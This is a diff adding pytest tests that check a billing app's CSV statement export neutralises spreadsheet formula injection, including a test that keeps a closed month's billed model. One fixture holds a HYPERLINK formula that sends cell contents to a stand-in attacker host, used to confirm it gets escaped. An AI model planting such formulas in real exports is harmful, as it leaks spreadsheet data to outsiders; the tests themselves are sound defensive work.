@@ -95,3 +95,24 @@ def test_cli_prints_totals_and_writes_files(closed, runner, tmp_path):
     assert pdf_path.read_bytes().startswith(b"%PDF")
     bad = runner.invoke(args=["statement", "noviembre"])
     assert bad.exit_code != 0 and "AAAA-MM" in bad.output
+
+
+def test_csv_cells_are_never_formulas_and_a_closed_month_keeps_the_model_billed(app):
+    courier = factories.user(Role.COURIER)
+    boss = factories.user(Role.SUPERVISOR)
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'
+    case = doa_case(service_number="T300010", model=formula)
+    review.approve(close_job(case, courier), boss)
+    db.session.commit()
+    # A later case for the same unit writes another model into the unit's free text.
+    factories.case(service_number="T300010", model="ESP 5250")
+    built = statement.build(MONTH)
+    assert [row.model for row in built.rows] == [formula]
+    rows = list(csv.reader(io.StringIO(statement.to_csv(built).decode("utf-8-sig"))))
+    assert rows[1][0] == "T300010" and rows[1][3] == "'" + formula
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+51 987", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"])
+def test_every_formula_start_is_neutralised(text):
+    assert statement._cell(text) == "'" + text
+    assert statement._cell("ESP 3250") == "ESP 3250" and statement._cell(None) == ""
